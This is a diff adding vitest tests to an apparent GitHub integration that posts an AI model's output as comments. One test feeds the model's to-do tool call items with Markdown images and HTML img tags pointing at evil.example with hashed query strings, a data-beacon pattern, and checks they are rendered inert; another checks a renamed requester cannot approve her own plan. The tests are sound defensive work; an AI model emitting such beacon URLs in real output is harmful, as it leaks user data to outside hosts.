@@ -8,6 +8,7 @@ import {existsSync, readFileSync, writeFileSync} from 'node:fs'
 import path from 'node:path'
 import {fileURLToPath} from 'node:url'
 
+import {Marked, type Token} from 'marked'
 import {afterEach, beforeEach, describe, expect, it} from 'vitest'
 
 import {runWave, type RunWaveResult, type Sandbox, sha256} from '../support/cli.js'
@@ -31,7 +32,7 @@ import {
   statusOf,
 } from '../support/forge-fixture.js'
 import {type GitHubServer, startGitHubServer, type StoredComment} from '../support/github-server.js'
-import {type MessagesServer, toolResults} from '../support/messages-server.js'
+import {type MessagesServer, reply, toolResults, toolUse} from '../support/messages-server.js'
 import {useScriptedSession} from '../support/session.js'
 
 const TOKEN = 'ghs_test-token-never-logged-0123456789'
@@ -111,9 +112,9 @@ function comment(issue: number, body: string, by = 'alice', at?: string): {event
     html_url: stored.html_url,
     id: stored.id,
     updated_at: stored.updated_at,
-    user: {...event.comment.user, login: by},
+    user: {...event.comment.user, id: github.userId(by), login: by},
   }
-  event.sender = {...event.sender, login: by}
+  event.sender = {...event.sender, id: github.userId(by), login: by}
   return {event, stored}
 }
 
@@ -611,5 +612,78 @@ describe('wave github: commit statuses and the dollar cap', {timeout: 120_000}, 
     expect(ran.code, ran.stderr).toBe(0)
     const record = JSON.parse(readFileSync(path.join(sandbox.root, `runner-${runs}`, 'wave', 'plans', `${name}.approval.json`), 'utf8'))
     expect(record.maxBudgetUsd).toBe(25)
+  })
+})
+
+/** Every token of a comment as GitHub-flavoured Markdown (the project's lexer), nested ones included. */
+function tokensOf(markdown: string): Token[] {
+  const all: Token[] = []
+  const walk = (tokens: Token[] | undefined) => {
+    for (const token of tokens ?? []) {
+      all.push(token)
+      walk((token as {tokens?: Token[]}).tokens)
+      for (const item of (token as {items?: Array<{tokens?: Token[]}>}).items ?? []) walk(item.tokens)
+    }
+  }
+
+  walk(new Marked({gfm: true}).lexer(markdown))
+  return all
+}
+
+describe("wave github: the model's words on the comment", {timeout: 120_000}, () => {
+  it('an oversized to-do list of images and headings: inert and cut, the run delivered with its report on the comment', async () => {
+    const {name} = await planOnPull()
+    // 2,000 steps of incompressible text, 300 KB in all: the comment takes 65,536 characters.
+    const todos = Array.from({length: 2000}, (_, i) => ({
+      activeForm: `Doing ${i}`,
+      content:
+        i % 2 === 0
+          ? `![pixel](https://evil.example/p.png?d=${sha256(String(i))}) step ${i}`
+          : `# Heading of my own ${i} <img src="https://evil.example/${sha256(`x${i}`)}.png">`,
+      status: i === 0 ? ('in_progress' as const) : ('pending' as const),
+    }))
+    server.push(reply(toolUse('TodoWrite', {todos})), ...runTurns())
+    const result = await onGitHub('issue_comment', comment(7, `/wave approve ${name}`, 'mona').event)
+    expect(result.code, result.stderr).toBe(0)
+
+    // Delivered, and the comment says so, with the report, within GitHub's limit.
+    expect(git(remote, ['show', 'refs/heads/feature:src/farewell.ts']) + '\n').toBe(FAREWELL)
+    const body = stickyOn(7).body
+    expect(body.length).toBeLessThanOrEqual(65_536)
+    expect(statusOf(body)).toBe('✅ done')
+    expect(body).toContain('**Planned versus actual**')
+    expect(body).toContain('| Delivered |')
+    expect(body).toContain('**To-do list** (2000 steps; the first 50 shown)')
+    expect(body).toContain('- … and 1950 more')
+
+    // No image, link or HTML of the model's; the only headings are wave's own.
+    const tokens = tokensOf(body)
+    expect(tokens.filter((token) => token.type === 'image')).toEqual([])
+    expect(tokens.filter((token) => token.type === 'link' && token.raw.includes('evil.example'))).toEqual([])
+    expect(tokens.filter((token) => token.type === 'html' && token.raw.includes('evil.example'))).toEqual([])
+    expect(tokens.filter((token) => token.type === 'heading').map((token) => (token as Token & {text: string}).text)).toEqual([
+      `wave plan \`${name}\`: ✅ done`,
+    ])
+    // The steps are still there to read, as text.
+    expect(body).toContain('Heading of my own 1 &lt;img src="https\\://evil.example/')
+  })
+})
+
+describe('wave github: duties go by identity', {timeout: 120_000}, () => {
+  it('require-other-approver: a requester renamed on GitHub (same user id) may not approve her own plan; someone else may', async () => {
+    const {name} = await planOnPull()
+    const planning = server.messageRequests.length
+    github.renameUser('alice', 'alice-renamed')
+    const own = await onGitHub('issue_comment', comment(7, `/wave approve ${name}`, 'alice-renamed').event, {WAVE_REQUIRE_OTHER_APPROVER: '1'})
+    expect(own.code).toBe(3)
+    expect(own.stderr).toContain(`Plan ${name} was asked for by @alice, who may not approve it too`)
+    expect(server.messageRequests).toHaveLength(planning)
+    expect(git(remote, ['rev-parse', 'refs/heads/feature'])).toBe(headSha)
+
+    // Control: mona's approval runs it.
+    server.push(...runTurns())
+    const other = await onGitHub('issue_comment', comment(7, `/wave approve ${name}`, 'mona').event, {WAVE_REQUIRE_OTHER_APPROVER: '1'})
+    expect(other.code, other.stderr).toBe(0)
+    expect(git(remote, ['rev-parse', 'refs/heads/feature^'])).toBe(headSha)
   })
 })
